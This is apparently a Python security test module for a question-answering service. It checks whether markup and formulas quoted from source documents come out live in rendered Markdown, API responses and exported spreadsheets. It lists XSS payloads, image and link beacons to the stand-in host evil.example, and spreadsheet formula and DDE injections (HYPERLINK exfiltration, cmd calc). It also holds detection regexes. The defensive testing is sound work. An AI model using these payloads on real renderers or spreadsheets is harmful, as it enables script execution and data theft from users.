"""Markup and formulas in documents, where answers leave Refdesk: in Markdown that is rendered, and in spreadsheets.

An attack succeeds if a renderer that trusts HTML makes more than text of it, or if a cell would be computed.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path

from markdown_it import MarkdownIt

from benchmarks.attacks import Tried
from documents.document import Chunk, Document, Source
from documents.formats.markdown import parse
from index.passage import Passage
from qa.answer import Answer, Citation, Statement
from qa.answer.spreadsheet import as_cell
from qa.serving.api.citing import Links, rendered
from qa.serving.api.mcp.marks import as_json, from_documents
from qa.serving.api.mcp.questions import as_text as told
from qa.serving.api.openai.content import Content, source_events
from qa.serving.html.copied import as_markdown, as_text
from qa.serving.html.messages import words_of

EVIL = "http://evil.example/"
MARKUP = (
    f"![x]({EVIL})", f"![1]({EVIL})", f"[x]({EVIL})", f"[1]({EVIL})", "[x](javascript:alert(1))", f"[1]: {EVIL}",
    f"[x][1]\n\n[1]: {EVIL}", f"![x][y]\n\n[y]: {EVIL}", f"<{EVIL}>", "<javascript:alert(1)>", "<a@evil.example>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>", "<!-- x -->", "<?x?>",
    "<from-documents onclick=x>\n<img src=x>", "<details open ontoggle=alert(1)>", "&lt;img src=x&gt;",
    f"[x]\\({EVIL})", f"\\\\[x]({EVIL})", f"`[x]({EVIL})", f"[x\n]({EVIL})", f"[![x]({EVIL})]({EVIL})",
)  # fmt: skip
AROUND = (
    "{}", "Said: {} and more.", "\\{}", "> {}", "- {}", "    {}", "\n\n{}", "| {} |", "```\n{}", "~~~\n{}",
    "1{}", "[1]{}",
)  # fmt: skip
LIVE = re.compile(r"<(?:a|img|svg|script|from-documents|details)\b|<!--|<\?", re.IGNORECASE)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', '+WEBSERVICE("http://evil.example/")', "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '\t=WEBSERVICE("x")', '\r=WEBSERVICE("x")', ' =WEBSERVICE("x")', '＝WEBSERVICE("x")',
)  # fmt: skip
WITHIN = ("{}", "So:\n{}", "So:\n\n{}\n", "a\t{}", "| a |\n|---|\n| {} |\n")
COMPUTED = re.compile(r"\s*[=+\-@＝＋－＠].*[(|!]")

LINKS, ENGLISH = Links("http://refdesk.example"), words_of()


def attack(folder: Path) -> Iterator[Tried]:  # noqa: ARG001 - nothing is written
    """Answer with every text, and render what clients are given."""
    texts = [around.format(own) for around, own in product(AROUND, MARKUP)]
    for what, shown in RENDERED.items():
        render = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render
        succeeded = tuple(repr(text) for text in texts if LIVE.search(render(shown(answer_of(text)))))
        yield Tried(f"markup of documents, {what}", len(texts), succeeded)
    cells = [around.format(own) for around, own in product(WITHIN, FORMULAS)]
    copied = tuple(
        repr(text) for text in cells if any(map(COMPUTED.match, re.split(r"[\t\n]", as_text(answer_of(text), ENGLISH))))
    )
    yield Tried("formulas of documents, in the copied text", len(cells), copied)
    exported = tuple(repr(text) for text in FORMULAS if COMPUTED.match(as_cell(text)))
    yield Tried("formulas of documents, in exported tables", len(FORMULAS), exported)


def answer_of(text: str) -> Answer:
    """An answer that quotes the text, of a document whose title it is, too."""
    parsed = parse(text)
    document = Document(parsed.text, " ".join(text.split()), parsed.sections, tables=parsed.tables)
    passage = Passage(Chunk(document, 0, len(document.text)), Source("a.md", document.id), 1.0)
    cited = Citation(1, passage, 0, len(document.text))
    said = Statement(document.text, (1,), 0.9, "quoted", "row" if document.tables else "answer")
    return Answer("answer", "q?", "q?", 0.9, None, (said,), (cited,), (passage,), note=text)


def _content(answer: Answer) -> str:
    content = Content(LINKS)
    content.whole(answer)
    return content.text.replace("http://refdesk.example", "")  # its own links are none of the document's


def _told(answer: Answer) -> str:
    return told(answer, rendered(answer, ["urls"], LINKS)["citations"])


def _fetched(answer: Answer) -> str:
    return as_json({"title": answer.citations[0].place["title"], "text": from_documents(answer.citations[0].quote)})


RENDERED: dict[str, Callable[[Answer], str]] = {
    "in the content of a completion": _content,
    "in Open WebUI's sources": lambda answer: str(source_events(answer, LINKS)[0]["data"]["document"][0]),
    "in what the tool ask says": _told,
    "in what the tools search and fetch say": _fetched,
    "in the Markdown that is copied": lambda answer: as_markdown(answer, ENGLISH),
}
